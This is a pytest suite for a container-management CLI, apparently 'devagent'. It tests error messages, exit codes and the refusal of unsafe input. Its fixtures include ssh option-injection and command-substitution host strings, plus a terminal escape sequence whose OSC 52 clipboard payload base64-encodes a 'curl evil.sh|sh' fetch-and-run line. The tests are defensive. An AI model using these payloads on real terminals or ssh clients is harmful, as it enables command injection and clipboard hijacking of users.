"""The command line's contract: fast help, errors as messages with hints and documented exit codes."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from devagent.cli import main
from devagent.errors import DevagentError, ExitStatus


def test_help_imports_neither_docker_nor_paramiko() -> None:
    code = ("import sys; from devagent.cli import main; rc = main(['--help']); "
            "print(rc, sorted(m for m in ('docker', 'paramiko', 'sshconf', 'torch') if m in sys.modules))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip().splitlines()[-1] == "0 []"


def test_version_is_printed(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--version"]) == 0
    assert capsys.readouterr().out == "devagent, version 0.1.0\n"


def test_an_invalid_name_is_a_usage_error_with_the_rule(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["up", "Bad_Name"]) == ExitStatus.USAGE
    err = capsys.readouterr().err
    assert err == ("Error: invalid environment name 'Bad_Name'\n"
                   "  hint: use 1-63 characters: lowercase letters, digits, '_', '.', '-', starting with a letter "
                   "or digit\n")


def test_a_name_that_is_a_host_is_refused_with_a_free_one(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["up", "github.com"]) == ExitStatus.USAGE
    assert capsys.readouterr().err == (
        "Error: environment name 'github.com' is a DNS name: its ssh alias would take `ssh github.com` over\n"
        "  hint: pick a name ssh does not read as a host, e.g. github-com\n")


@pytest.mark.parametrize(("args", "message"), [
    (["up", "x", "--gpus", "first"], "Error: --gpus: not a GPU index or UUID: first\n"),
    (["up", "x", "--memory", "lots"], "Error: --memory: cannot read size 'lots'\n"),
    (["up", "x", "--user", "root"], "Error: invalid login user 'root'\n"),
    (["up", "x", "--notebook", "/etc/passwd"], "Error: --notebook '/etc/passwd' must be a path inside the workspace\n"),
])
def test_bad_options_are_refused_before_docker_is_asked(args: list[str], message: str,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    assert main(args) == ExitStatus.USAGE
    assert capsys.readouterr().err.startswith(message)


def test_an_unknown_option_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["up", "x", "--frobnicate"]) == ExitStatus.USAGE
    assert "Error: No such option '--frobnicate'" in capsys.readouterr().err


def test_a_devagent_error_renders_its_details_and_hint() -> None:
    err = DevagentError("it broke", hint="do this", details="line 1\nline 2", status=ExitStatus.CONFLICT)
    assert str(err) == "it broke\n  | line 1\n  | line 2\n  hint: do this"


HOSTILE_HOSTS = [
    ("-oProxyCommand=touch /tmp/x", "it starts with '-' (ssh would read an option)"),
    ("gpu;touch", "it contains ';'"),
    ("gpu$(id)", "it contains '$'"),
    ("gpu server", "it contains a space"),
    ("gpu\nHost *", "it contains a control character (a line break, a tab…)"),
]


@pytest.mark.parametrize(("host", "why"), HOSTILE_HOSTS)
@pytest.mark.parametrize("command", [["up", "x", "--host"], ["ls", "--host"], ["image", "build", "--host"]])
def test_a_hostile_host_is_refused_before_anything_runs(command: list[str], host: str, why: str,
                                                        capsys: pytest.CaptureFixture[str],
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "/nonexistent")  # no ssh, no docker: nothing could run even if devagent tried
    assert main([*command, host]) == ExitStatus.USAGE
    assert capsys.readouterr().err.startswith(f"Error: server {host!r} is not usable: {why}\n")


def test_a_hostile_devagent_host_is_refused_before_anything_runs(capsys: pytest.CaptureFixture[str],
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DEVAGENT_HOST", "-oProxyCommand=sh")
    monkeypatch.setenv("PATH", "/nonexistent")
    assert main(["up", "x"]) == ExitStatus.USAGE
    assert capsys.readouterr().err.startswith(
        "Error: server '-oProxyCommand=sh' is not usable: it starts with '-' (ssh would read an option)\n")


def test_a_broken_pipe_that_is_not_our_output_is_a_fault_with_its_cause_not_a_silent_exit() -> None:
    import socket

    import click

    from devagent.cli.app import _Commands

    @click.group(cls=_Commands)
    def group() -> None: ...

    @group.command()
    def send() -> None:
        ours, theirs = socket.socketpair()
        theirs.close()  # a server or container that went away
        ours.sendall(b"x" * 65536)

    with pytest.raises(RuntimeError, match="unexpected broken pipe") as raised:
        group.main(["send"], standalone_mode=False)
    assert isinstance(raised.value.__cause__, BrokenPipeError)


def test_output_to_a_reader_that_went_away_ends_quietly() -> None:
    # `devagent sshd-config … | head -c 0`: the reader closes its end; devagent exits without a traceback.
    read, write = os.pipe()
    os.close(read)
    done = subprocess.run([sys.executable, "-m", "devagent", "sshd-config", "--profile", "strict",
                           "--user", "dev", "--port", "2222"], stdout=write,
                          stderr=subprocess.PIPE, check=False, timeout=60)
    os.close(write)
    assert done.returncode == 1
    assert b"Traceback" not in done.stderr, done.stderr.decode()


# What a compromised server (or a notebook) can say: OSC 52 sets the clipboard, CSI clears the screen, a bare CR
# overwrites the line before it, BEL rings, C1's CSI does what ESC [ does.
HOSTILE_WORDS = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\rok\x9b31m\x00"
SHOWN = "␛]52;c;Y3VybCBldmlsLnNofHNo␇␛[2J␍ok\\x9b31m␀"


def test_what_a_server_says_reaches_the_terminal_with_its_control_characters_visible(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    ssh = bin_dir / "ssh"  # the server's words, as the user's ssh relays them
    (tmp_path / "words").write_text(HOSTILE_WORDS)
    ssh.write_text(f"#!/bin/sh\ncat '{tmp_path / 'words'}' >&2\nexit 255\n")
    ssh.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:/usr/bin:/bin")
    monkeypatch.setenv("DEVAGENT_HOME", str(tmp_path / "home"))
    assert main(["gpus", "--host", "gpu"]) == ExitStatus.SERVER_UNREACHABLE
    err = capsys.readouterr().err
    assert f"  | {SHOWN.replace('␍', chr(10) + '  | ')}\n" in err
    assert not any(c in err for c in "\x1b\x07\r\x9b\x00")


def test_an_error_s_message_details_and_hint_reach_the_terminal_with_control_characters_visible(
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    from devagent.cli import site_options

    def hostile(_site: object = None) -> None:
        raise DevagentError(f"m{HOSTILE_WORDS}", details=f"d{HOSTILE_WORDS}", hint=f"h{HOSTILE_WORDS}",
                            status=ExitStatus.CONFLICT)

    monkeypatch.setattr(site_options, "provisioner", hostile)
    assert main(["down", "exp"]) == ExitStatus.CONFLICT
    in_details = SHOWN.replace("␍", "\n  | ")  # a CR ends a line of details, as splitlines() reads it
    assert capsys.readouterr().err == f"Error: m{SHOWN}\n  | d{in_details}\n  hint: h{SHOWN}\n"


def test_a_devcontainer_json_that_weakens_the_container_is_refused_by_name_before_docker_is_asked(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    workspace = tmp_path / "ws"
    (workspace / ".devcontainer").mkdir(parents=True)
    (workspace / ".devcontainer" / "devcontainer.json").write_text(
        '// a team\'s file\n{"image": "devagent-base:bookworm", "runArgs": ["--privileged"],}\n')
    monkeypatch.setenv("DEVAGENT_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")  # never reached
    assert main(["up", "x", "--workspace", str(workspace)]) == ExitStatus.USAGE
    err = capsys.readouterr().err
    assert err.startswith("Error: .devcontainer/devcontainer.json: runArgs '--privileged' is refused: a privileged "
                          "container can reach every device and undo every other restriction "
                          "(docs/explanation/security-model.md)\n  hint: remove '--privileged' from runArgs\n")
    assert not (tmp_path / "home").exists()  # nothing made


def test_a_devcontainer_json_through_a_link_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (tmp_path / "elsewhere.json").write_text('{"image": "x"}')
    (workspace / ".devcontainer.json").symlink_to(tmp_path / "elsewhere.json")
    monkeypatch.setenv("DEVAGENT_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("DOCKER_HOST", "unix:///nonexistent/docker.sock")  # never reached
    assert main(["up", "x", "--workspace", str(workspace)]) == ExitStatus.USAGE
    assert capsys.readouterr().err == ("Error: .devcontainer.json: a symbolic link, not followed; devagent did not "
                                       "read it\n  hint: make it a regular file in the workspace (a link may lead "
                                       "anywhere on the machine)\n")


def test_ssh_hands_the_terminal_to_the_real_client_through_the_alias(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[tuple[str, list[str]]] = []

    def execvp(file: str, argv: list[str]) -> None:
        calls.append((file, argv))
        raise SystemExit(0)  # exec does not return

    monkeypatch.setattr(os, "execvp", execvp)
    with pytest.raises(SystemExit):
        main(["ssh", "env1", "--", "ls", "-la"])
    assert calls == [("ssh", ["ssh", "-F", os.environ["DEVAGENT_SSH_CONFIG"], "env1", "ls", "-la"])]
